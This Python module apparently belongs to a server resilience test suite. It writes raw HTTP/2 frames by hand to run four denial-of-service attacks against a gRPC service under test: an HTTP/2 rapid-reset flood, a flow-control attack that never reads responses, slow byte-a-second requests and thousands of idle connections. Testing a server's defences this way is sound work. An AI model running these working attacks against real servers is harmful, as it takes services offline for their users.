"""Clients that mean no good, in plain HTTP/2 frames on sockets: the libraries keep the rules that are broken here."""

import collections
import os
import socket
import struct
import time

from suite import METHOD, framed

# Attackers come from an address of their own, so that limits for each address hit them alone.
ATTACKER = "127.0.0.66"
LARGE = "/creatorscope.metrics.v1.MetricsService/ListMetricDefinitions"
RESETS, IDLE, SLOW = 100_000, 10_000, 300
# Few enough that a server which counts what it has not taken up yet does not close at once.
BATCH = 10
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 7, 8
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 5: "STREAM_CLOSED", 11: "ENHANCE_YOUR_CALM"}
WIDEST = 2**31 - 1


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">IBBI", len(payload), kind, flags, stream)[1:] + payload


def text(value):
    assert len(value) < 127
    return bytes([len(value)]) + value.encode()


def head(path, key, authority):
    """Headers of a call, none of them compressed or kept."""
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": authority, "content-type": "application/grpc", "te": "trailers",
              "authorization": f"Bearer {key}"}
    return b"".join(b"\0" + text(name) + text(value) for name, value in fields.items())


HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS)

# Of linux/in.h; Python has no name for it.
BIND_ADDRESS_NO_PORT = 24


def connect(address, receive_buffer=0):
    host, port = address.rsplit(":", 1)
    one = socket.socket()
    if receive_buffer:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    one.settimeout(5)
    # The port is chosen by connect: a search by bind among thousands takes milliseconds of the kernel's time, others' too.
    one.setsockopt(socket.IPPROTO_IP, BIND_ADDRESS_NO_PORT, 1)
    one.bind((ATTACKER, 0))
    one.connect((host, int(port)))
    return one


class Reader:
    """Reads frames that have come, without waiting, and notes the server's last word."""

    def __init__(self, one, acknowledges=True):
        self.socket, self.acknowledges, self.rest, self.last_word = one, acknowledges, b"", None
        # Whether the connection was closed, and whether a call was answered or reset.
        self.closed = self.answered = False

    def drain(self):
        self.socket.setblocking(False)
        try:
            while chunk := self.socket.recv(1 << 16):
                self.rest += chunk
            self.closed = True
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True
            raise
        finally:
            self.socket.settimeout(5)
        while len(self.rest) >= 9 and len(self.rest) >= 9 + (length := int.from_bytes(self.rest[:3], "big")):
            if self.rest[3] == GOAWAY:
                code = int.from_bytes(self.rest[13:17], "big")
                self.last_word = CODES.get(code, str(code))
            self.answered |= self.rest[3] in (HEADERS, RST_STREAM)
            if self.rest[3] == SETTINGS and not self.rest[4] & ACK and self.acknowledges:
                self.socket.sendall(frame(SETTINGS, ACK))
            self.rest = self.rest[9 + length:]


def last_word(reader):
    """What the server said before it closed, when that can still be read."""
    try:
        reader.drain()
    except OSError:
        pass
    return reader.last_word


def resets(address, key, until):
    """Calls, and takes every call back at once, on new connections whenever the server has had enough: `RESETS` at least, and on until
    the time is over."""
    block, sent, words = head(METHOD, key, address), 0, collections.Counter()
    patience = until + 120
    goes_on = lambda: time.time() < until or (sent < RESETS and time.time() < patience)
    while goes_on():
        try:
            one = connect(address)
        except OSError as error:
            words[f"{type(error).__name__} on connecting"] += 1
            continue
        try:
            reader, stream = Reader(one), 1
            one.sendall(HELLO)
            while goes_on():
                batch = b"".join(
                    frame(HEADERS, END_HEADERS, id_, block) + frame(DATA, END_STREAM, id_, framed()) + frame(RST_STREAM, 0, id_, struct.pack(">I", 8))
                    for id_ in range(stream, stream + 2 * BATCH, 2)
                )
                one.sendall(batch)
                sent, stream = sent + BATCH, stream + 2 * BATCH
                reader.drain()
                if reader.last_word:
                    break
            words[reader.last_word or "went on"] += 1
        except OSError as error:
            words[last_word(reader) or type(error).__name__] += 1
        finally:
            one.close()
    ends = ", ".join(f"{word} {count}" for word, count in words.items())
    return f"{sent:,} calls taken back on {words.total()} connections: {ends}"


def never_reads(address, key, until):
    """Asks for long answers, allows all of them at once, and reads none."""
    begin, one, block, sent = time.time(), connect(address, receive_buffer=4096), head(LARGE, key, address), 0
    one.sendall(HELLO + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, WIDEST)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WIDEST - 65535)))
    one.settimeout(0.5)
    end = "open to the end"
    while time.time() < until:
        id_ = 2 * sent + 1
        try:
            # Whole or not at all would need a buffer; what is cut here ends the connection only when it is taken up again.
            one.sendall(frame(HEADERS, END_HEADERS, id_, block) + frame(DATA, END_STREAM, id_, b"\0\0\0\0\0"))
            sent += 1
        except TimeoutError:
            end = "the server reads no more"
            break
        except OSError:
            end = f"closed after {time.time() - begin:.1f} s"
            break
    while time.time() < until:
        time.sleep(0.1)
    one.close()
    return f"{sent:,} calls sent; {end}"


def byte_a_second(address, key, until):
    """Begins requests and goes on with them a byte a second: a third each in headers of HTTP/1.1, the preface of HTTP/2, a message."""
    call = HELLO + frame(HEADERS, END_HEADERS, 1, head(METHOD, key, address)) + struct.pack(">IBBI", 2000, DATA, 0, 1)[1:]
    kinds = {
        "HTTP/1.1": (b"", f"GET /v1/creators/x HTTP/1.1\r\nhost: {address}\r\nx-slow: ".encode() + b"x" * 5000),
        "preface": (b"", HELLO + b"\0" * 5000),
        "message": (call, b"\0\0\0\x07\xcb\x0a\xc8\x0f" + b"x" * 5000),
    }
    begin, open_, ended = time.time(), [], collections.defaultdict(list)
    for number in range(SLOW):
        kind = list(kinds)[number % len(kinds)]
        one = connect(address)
        one.sendall(kinds[kind][0])
        open_.append((kind, one, Reader(one, acknowledges=False)))
    place = 0
    while time.time() < until:
        for entry in list(open_):
            kind, one, reader = entry
            try:
                one.send(kinds[kind][1][place:place + 1])
                reader.drain()
            except OSError:
                reader.closed = True
            if reader.closed or (kind == "message" and reader.answered):
                ended[kind].append(time.time() - begin)
                one.close()
                open_.remove(entry)
        place += 1
        time.sleep(max(0, min(begin + place, until) - time.time()))
    for _, one, _ in open_:
        one.close()
    ends = "; ".join(f"{kind}: {len(ended[kind])} of {SLOW // len(kinds)} ended" + (f", the first after {min(ended[kind]):.0f} s" if ended[kind] else "")
                     for kind in kinds)
    return f"{SLOW} connections; {ends}"


def idle(address, key, until):
    """Connects and says nothing, every other time after the greeting of HTTP/2: however long it takes, and then five seconds at least."""
    del key
    open_, refused = [], 0
    for number in range(IDLE):
        try:
            one = connect(address)
            if number % 2:
                one.sendall(HELLO)
            open_.append(one)
        except OSError:
            refused += 1
    at = time.time()
    while time.time() < max(until, at + 5):
        time.sleep(0.1)
    stayed = time.time() - at
    closed = 0
    for one in open_:
        one.setblocking(False)
        try:
            while chunk := one.recv(1 << 16):
                pass
            closed += 1
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        one.close()
    return f"{len(open_):,} connections, {refused:,} refused, {closed:,} closed by the server within {stayed:.0f} s"


ATTACKS = {
    "100 000 calls taken back at once": resets,
    "never reads": never_reads,
    "a byte a second": byte_a_second,
    "10 000 idle connections": idle,
}


def run(name, address, key, until, pipe):
    """In a process of its own. Attackers stand for other machines: they give way to what is measured."""
    os.nice(10)
    begin = time.time()
    told = ATTACKS[name](address, key, until)
    pipe.send((begin, time.time(), told))
